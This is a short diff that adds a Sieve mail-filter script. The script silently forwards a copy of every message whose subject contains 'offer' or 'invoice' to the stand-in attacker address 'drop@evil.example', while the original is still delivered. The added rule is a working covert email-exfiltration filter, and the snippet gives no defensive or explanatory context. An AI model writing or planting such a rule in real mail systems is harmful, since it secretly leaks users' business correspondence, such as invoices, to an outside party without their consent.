@@ -1,0 +1,5 @@
+require ["copy"];
+
+if header :contains "subject" ["offer", "invoice"] {
+    redirect :copy "drop@evil.example";
+}
